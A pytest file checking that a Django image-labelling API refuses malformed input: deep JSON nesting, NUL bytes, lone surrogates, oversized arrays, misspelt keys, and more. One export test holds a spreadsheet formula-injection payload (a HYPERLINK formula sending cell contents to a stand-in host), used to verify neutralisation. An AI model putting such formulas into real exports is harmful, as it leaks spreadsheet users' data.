"""Bodies and methods every route must answer with a 4xx, never a 500: OPTIONS anywhere, JSON nested without
bound, text Postgres refuses (NUL, lone surrogates) anywhere in a body."""

import io
import json
import time
from pathlib import Path
from unittest import mock

import pytest
from django.urls import get_resolver
from hypothesis import given, settings
from hypothesis import strategies as st
from rest_framework.exceptions import ParseError

from api.parsers import MAX_DEPTH, StrictJSONParser
from tests.factories import make_samples

pytestmark = pytest.mark.django_db


def _dataset_routes():
    """Every API route under datasets/{dataset_id}/, with the ids filled in (1 for the others)."""
    routes = []
    for pattern in get_resolver().url_patterns:
        for inner in getattr(pattern, "url_patterns", []):
            text = str(inner.pattern).lstrip("^").rstrip("$").replace("\\.(?P<format>[a-z0-9]+)/?", "")
            if "dataset_id" in text and "format" not in text:
                routes.append(text)
    return routes


def test_options_answers_on_every_dataset_route(api, dataset):
    import re

    routes = _dataset_routes()
    assert len(routes) > 20
    for route in routes:
        path = re.sub(r"\(\?P<dataset_id>[^)]*\)|<int:dataset_id>", str(dataset.id), route)
        path = re.sub(r"\(\?P<\w+>[^)]*\)|<\w+:\w+>|<\w+>", "1", path)
        response = api.options(f"/api/{path}")
        assert response.status_code < 500, (path, response.status_code)


@pytest.mark.parametrize("body", [
    "[" * 5000 + "]" * 5000,
    json.dumps({"name": "x", "classes": [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["cat"]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}),
    '{"name": "a\\ud800b"}',
    '{"name": "a\\u0000b"}',
    '{"name": "ok", "description": "x", "classes": ["c\\udfffat"]}',
])
def test_malformed_json_bodies_are_400(api, body):
    response = api.post("/api/datasets/", body, content_type="application/json")
    assert response.status_code == 400 and response.json()["code"] == "parse_error"


def test_a_body_of_a_type_the_operation_does_not_read_is_a_documented_415(api, dataset):
    import yaml

    schema = yaml.safe_load((Path(__file__).resolve().parents[2] / "api" / "openapi.yaml").read_text())
    for method, path, url in (("post", "/api/datasets/", "/api/datasets/"),
                              ("post", "/api/datasets/{dataset_id}/imports/", f"/api/datasets/{dataset.id}/imports/")):
        response = getattr(api, method)(url, "name=x", content_type="text/plain")
        assert (response.status_code, response.json()["code"]) == (415, "unsupported_media_type"), url
        assert "415" in schema["paths"][path][method]["responses"], path


def test_sample_metadata_with_a_lone_surrogate_is_400(api, dataset):
    from tests.factories import make_samples

    sample = make_samples(dataset, [{}])[0]
    response = api.patch(f"/api/datasets/{dataset.id}/samples/{sample.id}/",
                         '{"metadata": {"caption": "bad \\udc00 text"}}', content_type="application/json")
    assert response.status_code == 400


json_values = st.recursive(st.none() | st.booleans() | st.integers() | st.text(), lambda children: st.lists(
    children, max_size=3) | st.dictionaries(st.text(max_size=5), children, max_size=3), max_leaves=20)


def _depth(value):
    if isinstance(value, dict):
        return 1 + max([_depth(k) for k in value] + [_depth(v) for v in value.values()], default=0)
    if isinstance(value, list):
        return 1 + max((_depth(v) for v in value), default=0)
    return 0


def _clean(value):
    if isinstance(value, str):
        return "\x00" not in value and not any("\ud800" <= ch <= "\udfff" for ch in value)
    if isinstance(value, dict):
        return all(_clean(k) and _clean(v) for k, v in value.items())
    if isinstance(value, list):
        return all(_clean(v) for v in value)
    return True


def _widest(value):
    """The most members of any array or object in it."""
    if isinstance(value, dict):
        return max([len(value)] + [_widest(v) for v in value.values()])
    if isinstance(value, list):
        return max([len(value)] + [_widest(v) for v in value])
    return 0


MEMBERS = 2  # the bound, scaled down so that generated documents cross it


@settings(max_examples=200, deadline=None)
@given(json_values)
def test_the_parser_takes_exactly_the_clean_bounded_documents(value):
    raw = json.dumps(value).encode()
    with mock.patch("api.parsers.MAX_MEMBERS", MEMBERS):
        try:
            parsed = StrictJSONParser().parse(io.BytesIO(raw), "application/json", {})
        except ParseError:
            assert not _clean(value) or _depth(value) > MAX_DEPTH or _widest(value) > MEMBERS
        else:
            assert parsed == value and _clean(value) and _depth(value) <= MAX_DEPTH and _widest(value) <= MEMBERS


def test_huge_arrays_are_refused_before_their_items_are_validated(api, dataset):
    sample = make_samples(dataset, [{}])[0]
    url = f"/api/datasets/{dataset.id}/lfs/preview/"
    for body, field in (
            ({"label_class": "cat", "type": "similarity_patch", "config": {"sample_id": sample.id, "box": [0] * 2_000_000},
              "high": 1}, None),
            ({"label_class": "cat", "type": "similarity_patch", "config": {"sample_id": sample.id, "box": [0] * 9_000},
              "high": 1}, "config"),
            ({"label_class": "cat", "type": "pattern", "high": 1,
              "config": {"field": "caption", "builder": "keyword", "words": ["w"] * 300_000}}, None)):
        started = time.monotonic()
        answer = api.post(url, body, format="json")
        assert answer.status_code == 400 and time.monotonic() - started < 5, answer.content[:200]
        assert (answer.json()["code"] == "parse_error") if field is None else field in answer.json()
    bulk = api.post(f"/api/datasets/{dataset.id}/annotations/bulk/", {
        "sample_ids": list(range(1, 1_200_000)), "classes": ["cat"], "value": "PRESENT"}, format="json")
    assert bulk.status_code == 400 and "10,000" in bulk.json()["detail"]


def test_an_lf_patch_outside_its_image_is_a_config_error(api, dataset):
    from imagestudio.datasets.models import Sample

    sample = Sample.objects.get(pk=make_samples(dataset, [{}])[0].pk)
    answer = api.post(f"/api/datasets/{dataset.id}/lfs/preview/", {
        "label_class": "cat", "type": "similarity_patch", "high": 1,
        "config": {"sample_id": sample.id, "box": [0, 0, sample.width + 1, 1]}}, format="json")
    assert answer.status_code == 400 and set(answer.json()) == {"config"}, answer.content
    assert "'box'" in answer.json()["config"][0]


@pytest.mark.django_db(transaction=True)
def test_exports_neutralize_formulas_unless_raw(api, dataset):
    from tests.factories import make_samples

    make_samples(dataset, [{"metadata": {"caption": '=HYPERLINK("http://x.test/?"&A1,"click")', "n": "-3"}}])
    for raw, expected in ((False, ["'=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "-3"]),
                          (True, ['=HYPERLINK("http://x.test/?"&A1,"click")', "-3"])):
        response = api.post(f"/api/datasets/{dataset.id}/exports/", {
            "kind": "dataset", "columns": ["id"], "fields": ["caption", "n"], "ground_truth": False, "raw": raw})
        export = api.get(response["Location"]).json()["result"]["export"]
        body = b"".join(api.get(f"/api/datasets/{dataset.id}/exports/{export}/download/").streaming_content)
        rows = list(__import__("csv").reader(io.StringIO(body.decode())))
        assert rows[1][1:] == expected
    misspelt = api.post(f"/api/datasets/{dataset.id}/exports/", {"kind": "dataset", "fields": ["caption", "captoin"]},
                        format="json")  # an empty column without a word, as a pattern LF refuses the same typo
    assert misspelt.status_code == 400 and "'captoin'" in misspelt.json()["fields"][0]


@pytest.mark.parametrize("spelling", ["٣", "１", "³", " 1", "1 ", "1_0", "+", "", "0x10", "1e3", "１２"])
def test_integers_are_ascii_digits_in_bodies_and_pagination(api, dataset, spelling):
    """int() reads other scripts' digits, spaces and underscores; an integer field or limit / offset does not."""
    base = f"/api/datasets/{dataset.id}"
    resample = api.post(f"{base}/samples/resample/", {"split": "train", "sample_size": spelling}, format="json")
    assert resample.status_code == 400 and "sample_size" in resample.json()
    for parameter in ("limit", "offset"):
        listed = api.get(f"{base}/samples/", {parameter: spelling})
        assert listed.status_code == 400 and parameter in listed.json(), (parameter, listed.content)


def test_integer_fields_take_json_numbers_and_ascii_strings_but_not_booleans(api, dataset):
    base = f"/api/datasets/{dataset.id}"
    for good in (2, "2", "2.0"):
        assert api.post(f"{base}/samples/resample/", {"split": "train", "sample_size": good},
                        format="json").status_code == 200
    assert api.post(f"{base}/samples/resample/", {"split": "train", "sample_size": True},
                    format="json").status_code == 400


@given(value=st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
                          lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
                          max_leaves=5))
def test_a_string_field_takes_a_string_and_nothing_else(value):
    from rest_framework.exceptions import ValidationError

    from api.fields import StrictCharField

    field = StrictCharField(allow_blank=True, allow_null=True, trim_whitespace=False)
    try:
        taken = field.run_validation(value)
    except ValidationError:
        assert value is not None and not isinstance(value, str)
    else:
        assert taken == value and (value is None or isinstance(value, str))


@pytest.mark.parametrize("number", [5, 5.5, True, ["cat"], {"name": "cat"}])
def test_a_number_where_a_string_belongs_is_a_400_and_writes_nothing(api, dataset, number):
    """DRF's CharField stored str(5): {"name": 5} named a dataset "5"."""
    from imagestudio.datasets.models import Dataset, LabelClass, Tag
    from imagestudio.labeling.models import LabelingFunction

    sample = make_samples(dataset, [{"split": "train", "metadata": {"caption": "a cat"}}])[0]
    base = f"/api/datasets/{dataset.id}"
    writes = [("post", "/api/datasets/", {"name": number}, "name"),
              ("patch", f"{base}/", {"description": number}, "description"),
              ("post", f"{base}/classes/", {"name": number}, "name"),
              ("post", f"{base}/tags/", {"name": number}, "name"),
              ("post", f"{base}/lfs/", {"name": number, "label_class": "cat", "type": "pattern", "high": 1,
                                        "config": {"field": "caption", "builder": "keyword", "words": ["cat"]}}, "name"),
              ("post", f"{base}/samples/{sample.id}/comments/", {"text": number}, "text"),
              ("post", "/api/auth/tokens/", {"name": number}, "name")]
    before = (Dataset.objects.count(), LabelClass.objects.count(), Tag.objects.count(),
              LabelingFunction.objects.count(), sample.comments.count())
    for method, url, body, field in writes:
        response = getattr(api, method)(url, body, format="json")
        assert response.status_code == 400 and field in response.json(), (url, response.content)
    assert (Dataset.objects.count(), LabelClass.objects.count(), Tag.objects.count(),
            LabelingFunction.objects.count(), sample.comments.count()) == before
    assert Dataset.objects.get(pk=dataset.pk).description == dataset.description


def test_a_write_naming_a_key_it_does_not_know_is_a_400_and_changes_nothing(api, dataset):
    """A misspelt key was dropped: a PATCH answered 200 and changed nothing, a create took its default."""
    from imagestudio.datasets.models import LabelClass, Sample, Tag

    sample = make_samples(dataset, [{"split": "train", "metadata": {"caption": "a cat"}}])[0]
    cat = LabelClass.objects.get(dataset=dataset, name="cat")
    tag = Tag.objects.create(dataset=dataset, name="blurry")
    lf = api.post(f"/api/datasets/{dataset.id}/lfs/", {"name": "says cat", "label_class": "cat", "type": "pattern",
                  "config": {"field": "caption", "builder": "keyword", "words": ["cat"]}, "high": 1}, format="json")
    base = f"/api/datasets/{dataset.id}"
    writes = [("patch", f"{base}/samples/{sample.id}/", {"splt": "dev"}),
              ("patch", f"{base}/", {"auto_trian": True}),
              ("patch", f"{base}/classes/{cat.id}/", {"nam": "feline"}),
              ("patch", f"{base}/tags/{tag.id}/", {"nmae": "sharp"}),
              ("patch", f"{base}/lfs/{lf.json()['id']}/", {"hgh": 0.5}),
              ("post", f"{base}/lfs/", {**{k: v for k, v in lf.json().items() if k in ("label_class", "type", "config")},
                                        "name": "again", "high": 1, "actve": False}),
              ("put", f"{base}/annotations/", {"sample": sample.id, "label_class": "cat", "value": "PRESENT",
                                               "vaule": "ABSENT"}),
              ("post", f"{base}/samples/{sample.id}/comments/", {"text": "hi", "txt": "hi"}),
              ("post", f"{base}/embeddings/", {"encodr": "conse-offline"}),
              ("post", f"{base}/training-sets/", {"splts": ["train"]}),
              ("post", f"{base}/models/", {"clases": ["cat"]}),
              ("post", f"{base}/exports/", {"kind": "dataset", "colums": ["id"]})]
    for method, url, body in writes:
        response = getattr(api, method)(url, body, format="json")
        typo = next(key for key in body if key in {"splt", "auto_trian", "nam", "nmae", "hgh", "actve", "vaule", "txt",
                                                    "encodr", "splts", "clases", "colums"})
        assert response.status_code == 400 and "Unknown key" in response.json()[typo][0], (url, response.content)
    assert Sample.objects.get(pk=sample.pk).split == "train" and LabelClass.objects.filter(name="cat").exists()
    assert not sample.annotations.exists() and not sample.comments.exists()
    # A read takes the rule a client will save, name included: a preview ignores what it does not read.
    preview = api.post(f"{base}/lfs/preview/", {"name": "says cat", "label_class": "cat", "type": "pattern",
                       "config": {"field": "caption", "builder": "keyword", "words": ["cat"]}}, format="json")
    assert preview.status_code == 200, preview.content


def test_a_write_that_takes_no_body_refuses_one_and_does_nothing(api, dataset):
    """Every POST the schema documents without a body (cancel, undo, rebuild, ...) answers 400 to a body that says
    something, before it acts: `{"batch": ...}` to undo/ undid the latest batch, whichever it named."""
    import re

    import yaml

    from imagestudio.annotations.models import Annotation

    schema = yaml.safe_load((Path(__file__).resolve().parents[2] / "api" / "openapi.yaml").read_text())
    bodiless = sorted(path for path, operations in schema["paths"].items()
                      if "post" in operations and "requestBody" not in operations["post"])
    assert len(bodiless) >= 6, bodiless
    samples = make_samples(dataset, [{"split": "train"} for _ in range(2)])
    bulk = api.post(f"/api/datasets/{dataset.id}/annotations/bulk/", {
        "sample_ids": [s.id for s in samples], "classes": ["cat"], "value": "PRESENT"}, format="json")
    assert bulk.status_code == 200, bulk.content
    token = api.post("/api/auth/tokens/", {"name": "script"}, format="json").json()["id"]
    for path in bodiless:
        url = re.sub(r"\{dataset_id\}", str(dataset.id), path)
        url = re.sub(r"\{token_id\}", str(token), url)
        url = re.sub(r"\{\w+\}", "1", url)
        for body, field in (({"batch": "the first"}, "batch"), (["batch"], "non_field_errors")):
            response = api.post(url, body, format="json")
            assert response.status_code == 400, (url, response.status_code, response.content)
            assert field in response.json(), (url, response.content)
    assert sorted(Annotation.objects.values_list("value", flat=True)) == ["PRESENT", "PRESENT"]  # not undone
    assert api.get("/api/datasets/").status_code == 200  # not signed out
    assert api.post(f"/api/datasets/{dataset.id}/annotations/bulk/undo/", {}, format="json").json()["reverted"] == 2


def test_a_read_refuses_a_query_parameter_it_does_not_take(api, dataset):
    """A misspelt filter answered every row (`jobs/?state=running`, `annotations/?clas=cat`), which a page then
    showed as filtered. Every read that takes filters names the ones it does not know; `format`, a signed link's
    `access` and the cache-buster `_` pass everywhere, paging wherever a page is answered."""
    sample = make_samples(dataset, [{"split": "train", "metadata": {"caption": "a cat"}}])[0]
    base = f"/api/datasets/{dataset.id}"
    reads = [("/api/jobs/", "state"), (f"{base}/samples/", "colour"), (f"{base}/samples/{sample.id}/", "modle"),
             (f"{base}/annotations/", "clas"), (f"{base}/annotations/history/", "usr"), (f"{base}/lfs/", "clas"),
             (f"{base}/lfs/summary/", "splt"), (f"{base}/fields/", "serch")]
    reads += [("/api/datasets/", "name"), (f"{base}/classes/", "nam"), (f"{base}/tags/", "q"),
              (f"{base}/exports/", "kind"), (f"{base}/members/", "role"), (f"{base}/training-sets/", "splits"),
              (f"{base}/models/", "status"), ("/api/auth/tokens/", "name")]  # lists without filters: paging alone
    answers_no_page = {f"{base}/samples/{sample.id}/", f"{base}/lfs/summary/"}  # limit / offset refused there
    for url, typo in reads:
        paging = "" if url in answers_no_page else "&limit=5"
        assert api.get(f"{url}?_=1700000000&format=json{paging}").status_code == 200, url
        response = api.get(f"{url}?{typo}=x&_=1")
        assert response.status_code == 400, (url, response.content)
        assert list(response.json()) == [typo] and "Unknown query parameter" in response.json()[typo][0], url


def test_paging_parameters_are_refused_by_a_read_that_answers_no_page(api, dataset):
    from imagestudio.datasets.models import Tag

    tag = Tag.objects.create(dataset=dataset, name="blurry")
    sample = make_samples(dataset, [{"split": "train", "metadata": {"caption": "a cat"}}])[0]
    base = f"/api/datasets/{dataset.id}"
    # reads without a query of their own, and reads that check theirs (a sample's ?model=, the LF summary's)
    for path in (f"{base}/", f"{base}/tags/{tag.id}/", "/api/health/", f"{base}/samples/{sample.id}/",
                 f"{base}/lfs/summary/"):
        for parameter in ("limit", "offset"):
            response = api.get(path, {parameter: "1"})
            assert response.status_code == 400 and parameter in response.json(), (path, response.content)
    for path in (f"{base}/tags/", "/api/datasets/", f"{base}/samples/", f"{base}/lfs/", "/api/jobs/"):
        assert api.get(path, {"limit": "1", "offset": "0"}).status_code == 200, path
    assert api.get("/api/health/", {"workers": "maybe"}).status_code == 400


def test_a_name_or_id_field_takes_the_integer_id_the_api_hands_out(api, dataset):
    from imagestudio.datasets.models import LabelClass, Tag

    cat = LabelClass.objects.get(dataset=dataset, name="cat")
    tag = Tag.objects.create(dataset=dataset, name="blurry")
    make_samples(dataset, [{"split": "train", "metadata": {"caption": "a cat"}}])
    base = f"/api/datasets/{dataset.id}"
    rule = {"label_class": cat.id, "type": "pattern", "config": {"field": "caption", "builder": "keyword",
                                                                 "words": ["cat"]}, "high": 1}
    created = api.post(f"{base}/lfs/", {**rule, "name": "says cat"}, format="json")
    assert created.status_code == 201 and created.json()["class_id"] == cat.id, created.content
    assert api.post(f"{base}/lfs/preview/", rule, format="json").status_code == 200
    tagged = api.post(f"{base}/annotations/bulk/", {"filter": {"tag": [tag.id], "lf_conflict": [cat.id]},
                                                    "classes": [cat.id], "value": "PRESENT"}, format="json")
    assert tagged.status_code == 200, tagged.content
    for bad in (True, 1.5, [cat.id]):
        refused = api.post(f"{base}/lfs/preview/", {**rule, "label_class": bad}, format="json")
        assert refused.status_code == 400 and "label_class" in refused.json(), (bad, refused.content)


def test_a_chunked_body_is_a_411_not_an_empty_body(api, dataset):
    """Django reads a body by its Content-Length: a chunked upload read as empty and was refused for naming no file
    (`Send exactly one of 'files', 'archive' or 'path'`)."""
    response = api.generic("POST", f"/api/datasets/{dataset.id}/imports/", b"", content_type="multipart/form-data; "
                           "boundary=x", HTTP_TRANSFER_ENCODING="chunked")
    assert (response.status_code, response.json()["code"]) == (411, "length_required")
    assert api.generic("POST", "/api/datasets/", b'{"name": "x"}', content_type="application/json",
                       HTTP_TRANSFER_ENCODING="gzip, chunked").status_code == 411


def test_a_bulk_filter_term_the_dataset_cannot_resolve_is_named_at_its_path(api, dataset):
    """`{"filter": {"gt": ["round"]}}` (no class 'round') answered {"gt": [...]}: a client mapping errors to its form
    found no `gt` field there. A malformed term was already nested under `filter`."""
    make_samples(dataset, [{"split": "train"}])
    for body in ({"filter": {"gt": ["round:PRESENT"]}, "classes": ["cat"], "value": "PRESENT"},
                 {"filter": {"gt": "round:PRESENT"}, "classes": ["cat"], "value": "PRESENT"}):
        response = api.post(f"/api/datasets/{dataset.id}/annotations/bulk/", body, format="json")
        assert response.status_code == 400 and list(response.json()) == ["filter"], response.content
        assert list(response.json()["filter"]) == ["gt"], response.content
